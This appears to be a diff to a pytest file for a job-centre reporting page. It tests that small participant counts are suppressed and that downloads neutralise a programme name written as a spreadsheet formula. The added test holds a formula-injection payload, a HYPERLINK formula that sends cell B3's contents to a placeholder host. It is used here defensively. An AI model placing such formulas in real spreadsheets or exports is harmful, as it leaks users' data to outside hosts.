@@ -163,12 +163,16 @@ def test_pdf_report_is_a_pdf_without_personal_data(cast, login, world):
 
 
 def test_small_programmes_are_suppressed_on_the_page(cast, login):
-    # Only the cast: three participants in one programme — every count is "< 5".
+    # Only the cast: three participants in one programme, in two runs of 1–4 people each.
+    # The runs are "< 5"; the programme (their sum) and the total are hidden with them ("•"),
+    # since no complement exists that could protect the runs.
     response = computed(login(cast.maria)).get(PAGE)
     html = response.content.decode()
+    runs = html.split('id="kf-run-caption"')[1].split("</table>")[0]
+    assert "&lt; 5" in runs
     table = html.split('id="kf-programme-caption"')[1].split("</table>")[0]
-    assert "&lt; 5" in table
-    assert ">3<" not in table
+    assert "•" in table
+    assert ">3<" not in table and ">3<" not in runs
 
 
 @pytest.mark.parametrize("query", [
@@ -212,3 +216,19 @@ def test_management_of_another_job_centre_sees_none_of_these_figures(cast, login
     assert "Neustart Beruf" not in text
     # Her own filter list offers only her centre's programmes: ours is an invalid choice.
     assert session.get(PAGE, {"projekt": world.programmes[1].pk}).status_code == 400
+
+
+def test_downloads_keep_a_formula_named_programme_as_text(cast, login, world):
+    """Issue 12, point 7: a programme named like a formula is text in Excel and CSV."""
+    hostile = '=HYPERLINK("http://x"&B3,"Details")'
+    cast.programme.name = hostile
+    cast.programme.save(update_fields=["name"])
+    browser = computed(login(cast.maria))
+    book = load_workbook(io.BytesIO(browser.get(DOWNLOADS[0]).content))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == hostile]
+    assert cells and all(c.data_type == "s" for c in cells)
+    assert not [c for sheet in book for row in sheet.iter_rows() for c in row
+                if c.data_type == "f"]
+    text = browser.get(DOWNLOADS[1]).content.decode("utf-8-sig")
+    fields = [f for row in csv.reader(io.StringIO(text), delimiter=";") for f in row]
+    assert "'" + hostile in fields and hostile not in fields
